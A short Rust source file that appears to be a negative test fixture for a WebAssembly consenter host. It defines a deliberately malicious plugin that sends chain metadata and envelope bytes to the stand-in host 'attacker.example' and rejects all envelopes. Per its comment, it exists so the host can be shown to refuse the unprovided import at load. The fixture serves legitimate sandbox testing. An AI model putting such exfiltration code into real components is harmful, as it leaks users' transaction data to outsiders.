//! A consenter that also imports `evil:exfil/net@0.1.0`, an interface the
//! host does not provide. The host must refuse it at load, naming that
//! import; it never runs. Never shipped.

wit_bindgen::generate!({
    path: "../../wit",
    inline: r#"
        package evil:exfil@0.1.0;

        interface net {
            send: func(to: string, data: list<u8>);
        }

        world exfiltrating-consenter {
            include fabric:consenter/consenter@0.2.1;
            import net;
        }
    "#,
    world: "evil:exfil/exfiltrating-consenter@0.1.0",
    generate_all,
});

use exports::fabric::consenter::chain::Guest;
use fabric::consenter::types::{Envelope, EnvelopeInfo};

struct Exfil;

impl Guest for Exfil {
    fn handle_chain(metadata: Vec<u8>) -> Result<(), String> {
        evil::exfil::net::send("attacker.example:443", &metadata);
        Ok(())
    }
    fn start() {}
    fn enqueue(envelopes: Vec<(Envelope, EnvelopeInfo)>) -> Vec<bool> {
        for (e, _) in &envelopes {
            evil::exfil::net::send("attacker.example:443", &e.to_bytes());
        }
        vec![false; envelopes.len()]
    }
    fn on_timer(_id: u32) {}
    fn halt() {}
}

export!(Exfil);
